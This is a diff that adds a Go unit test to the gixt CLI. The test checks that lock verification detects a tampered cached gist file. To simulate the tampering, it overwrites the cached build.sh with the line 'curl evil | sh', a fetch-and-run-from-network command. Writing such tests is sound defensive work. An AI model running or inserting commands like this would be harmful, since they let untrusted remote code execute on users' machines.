@@ -0,0 +1,62 @@
+package cli
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/leolaurindo/gixt/internal/cache"
+	"github.com/leolaurindo/gixt/internal/lock"
+)
+
+func TestLockAddAndVerifyDetectsTampering(t *testing.T) {
+	useTestServer(t, func(w http.ResponseWriter, r *http.Request) {
+		if !strings.HasPrefix(r.URL.Path, "/gists/deadbeefcafe") {
+			http.NotFound(w, r)
+			return
+		}
+		fmt.Fprint(w, `{"id":"deadbeefcafe","owner":{"login":"alice"},"files":{"build.sh":{"filename":"build.sh","content":"make all\n"}},"history":[{"version":"rev1"}]}`)
+	})
+	project := t.TempDir()
+	nested := filepath.Join(project, "sub")
+	if err := os.MkdirAll(nested, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	orig, _ := os.Getwd()
+	if err := os.Chdir(project); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.Chdir(orig) })
+	ctx := context.Background()
+	cacheDir := t.TempDir()
+
+	if err := handleLockAdd(ctx, []string{"deadbeefcafe"}, "", ""); err != nil {
+		t.Fatalf("lock add: %v", err)
+	}
+	f, err := lock.Load(filepath.Join(project, lock.FileName))
+	if err != nil {
+		t.Fatal(err)
+	}
+	entry := f.Gists["deadbeefcafe"]
+	if entry.SHA != "rev1" || entry.Files["build.sh"] == "" {
+		t.Fatalf("unexpected lock entry %+v", entry)
+	}
+
+	if err := os.Chdir(nested); err != nil {
+		t.Fatal(err)
+	}
+	if err := handleLockVerify(ctx, cacheDir, ""); err != nil {
+		t.Fatalf("verify should pass: %v", err)
+	}
+	cached := filepath.Join(cache.Dir(cacheDir, "deadbeefcafe", "rev1"), "build.sh")
+	if err := os.WriteFile(cached, []byte("curl evil | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := handleLockVerify(ctx, cacheDir, ""); err == nil {
+		t.Fatalf("verify should fail after the cached file changed")
+	}
+}